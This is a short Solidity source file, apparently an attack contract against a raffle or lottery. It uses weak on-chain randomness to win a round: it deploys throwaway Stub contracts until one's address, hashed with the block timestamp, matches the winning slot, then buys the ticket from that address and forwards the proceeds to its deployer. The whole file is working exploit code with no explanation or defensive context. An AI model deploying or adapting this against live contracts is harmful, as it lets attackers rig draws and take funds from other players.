pragma solidity 0.4.25;

interface IRaffle {
    function buy() external payable;
    function sold() external view returns (uint256);
}

contract Stub {
    address private owner;

    constructor() public {
        owner = msg.sender;
    }

    function buy(IRaffle raffle) public payable {
        raffle.buy.value(msg.value)();
        owner.transfer(address(this).balance);
    }

    function () public payable {}
}

/// Buys the last ticket of a round from whichever fresh address the draw would pick.
contract LastTicket {
    address private boss;

    constructor() public {
        boss = msg.sender;
    }

    function run(IRaffle raffle) public payable {
        uint256 slot = raffle.sold();
        for (uint256 i = 0; i < 60; i++) {
            Stub s = new Stub();
            if (uint256(keccak256(abi.encodePacked(now, address(s)))) % 5 == slot) {
                s.buy.value(200 finney)(raffle);
                break;
            }
        }
        boss.transfer(address(this).balance);
    }

    function () public payable {}
}
